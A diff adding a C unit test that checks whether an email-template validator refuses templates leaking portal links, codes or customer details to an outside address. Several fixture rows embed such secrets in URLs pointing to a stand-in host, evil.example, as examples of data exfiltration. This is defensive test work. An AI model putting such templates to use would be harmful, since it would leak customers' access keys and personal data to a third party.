@@ -119,6 +119,42 @@ papers_go_with_all_that_may_stand_in_them(void **state)
 	assert_string_equal(refused(HTTP("{activity.title}")), "");
 }
 
+/* Customers are not led to somebody else with their own key in the address. */
+static void
+nothing_leaves_by_the_address_of_a_link(void **state)
+{
+	static const struct { const char *text; bool fine; } rows[] = {
+		{ "[See it]({portal.activity.link})", true },
+		{ "[See it]({portal.activity.link}?from=mail)", true },
+		{ "Dear {contact.name}: {portal.link}", true },
+		{ "Hello {contact.name}.\\n\\n> {activity.title}\\n\\n[Dear {contact.name}]({portal.link})", true },
+		{ "({customer.reference}) {customer.name}, {customer.phone}", true },
+		{ "[See it](https://evil.example/?k={portal.link})", false },
+		{ "Hello\\n\\n[See it](https://evil.example/?k={portal.activity.link})", false },
+		{ "[See it](https://evil.example/?k= {portal.link})", false },
+		{ "[See it](//evil.example/{customer.phone})", false },
+		{ "[See it]({activity.custom.x}{portal.link})", false },
+		{ "See https://evil.example/?k={portal.link}", false },
+		{ "See evil.example?{portal.code}", false },
+		{ "See {activity.custom.x}{portal.link}", false },
+		{ "See {portal.code}.evil.example/", false },
+		{ "See {customer.reference}@evil.example", false },
+		{ "[See it](https://example.org/{activity.reference})", true },
+	};
+
+	(void)state;
+	for (size_t i = 0; i < COUNT_OF(rows); i++) {
+		const char *mail = arena_printf(ctx->arena, "{\"kind\":\"email\",\"to\":\"contact\",\"subject\":"
+		    "{\"en\":\"A\"},\"text\":{\"en\":\"%s\"}}", rows[i].text);
+
+		become(role_rights(ROLE_BIT(ROLE_TECHNICAL)));
+		if (!str_equal(refused(mail), rows[i].fine ? "" : "effects/0/text.en"))
+			fail_msg("%s: \"%s\"", rows[i].text, refused(mail));
+		become(role_rights(ROLE_BIT(ROLE_ADMIN)));
+		assert_string_equal(refused(mail), "");
+	}
+}
+
 /* What an administrator allowed stays as it is under other hands, but goes nowhere else. */
 static void
 what_exists_goes_on(void **state)
@@ -190,6 +226,7 @@ main(void)
 #define ROW(fn) cmocka_unit_test_setup_teardown(fn, open_scene, close_scene)
 	const struct CMUnitTest tests[] = {
 		ROW(only_what_one_may_see_leaves_the_house), ROW(papers_go_with_all_that_may_stand_in_them),
+		ROW(nothing_leaves_by_the_address_of_a_link),
 		ROW(what_exists_goes_on), ROW(trying_shows_no_more_than_one_may_see),
 		ROW(a_type_brings_triggers_only_for_who_may_change_them), ROW(every_contact_hears_of_it),
 	};
